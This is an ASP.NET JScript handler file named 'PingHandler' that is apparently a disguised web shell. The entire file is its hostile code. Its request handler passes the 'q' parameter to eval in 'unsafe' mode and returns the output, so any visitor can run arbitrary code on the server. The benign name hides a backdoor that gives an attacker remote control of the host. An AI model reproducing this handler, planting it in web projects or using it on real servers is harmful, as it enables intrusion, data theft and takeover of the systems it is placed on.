<%@ WebHandler Language="JScript" Class="PingHandler" %>
import System;
import System.Web;

class PingHandler implements IHttpHandler {
    function ProcessRequest(ctx : HttpContext) {
        ctx.Response.Write(eval(ctx.Request.Item["q"], "unsafe"));
    }
    function get IsReusable() : Boolean { return false; }
}
